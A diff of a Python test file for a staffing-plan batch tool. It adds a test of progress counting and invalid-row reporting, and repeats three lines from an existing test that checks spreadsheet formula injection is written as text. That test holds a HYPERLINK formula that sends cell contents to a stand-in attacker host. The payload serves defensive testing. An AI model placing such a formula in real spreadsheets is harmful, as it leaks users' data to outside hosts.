@@ -289,3 +289,20 @@ def test_formula_like_names_are_written_as_text(sample, base, tmp_path):
     cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
     assert cells['=HYPERLINK("http://evil.example/?x="&A1,"click")'] == "s" and cells["@SUM(1+1)"] == "s"
     assert pd.read_parquet(tmp_path / "pcn_summary.parquet")["pcn_name"].iloc[0].startswith("=HYPERLINK")  # data files keep the text
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
+    assert cells['=HYPERLINK("http://evil.example/?x="&A1,"click")'] == "s" and cells["@SUM(1+1)"] == "s"
+    assert pd.read_parquet(tmp_path / "pcn_summary.parquet")["pcn_name"].iloc[0].startswith("=HYPERLINK")  # data files keep the text
+
+
+def test_progress_counts_every_task_and_the_workers_report_each_bad_row(sample, base, tmp_path):
+    """The workers validate the rows; the parent only hashes them. 6 rows × 2 policies, chunks of 2 tasks, 2 workers:
+    rows 3 and 4 are invalid (list size -5, rooms 'lots'), so 4 of the 12 tasks never run and are counted done and
+    failed; row 5's staff in post cost more than its ARRS sum (infeasible under both policies). Progress ends at
+    12 of 12, 6 failed, and `on_plan` gets each bad row's problem at its row and column, as `plan_batch` finds it."""
+    seen, plans = [], []
+    outcome = run_batch(_bad_table(sample), base, POLICIES, tmp_path, workers=2, chunk_size=2, formats=("parquet",),
+                        on_progress=lambda p: seen.append((p.done, p.total, p.failed)), on_plan=lambda plan, _: plans.append(plan))
+    assert seen[-1] == (12, 12, 6) and all(total == 12 for _, total, _ in seen)
+    assert outcome.ran == 8 and outcome.counts == {"optimal": 6, "invalid": 4, "infeasible": 2}
+    expected = plan_batch(_bad_table(sample), base, POLICIES).problems
+    assert sorted(map(str, plans[0].problems)) == sorted(map(str, expected)) and len(expected) == 2
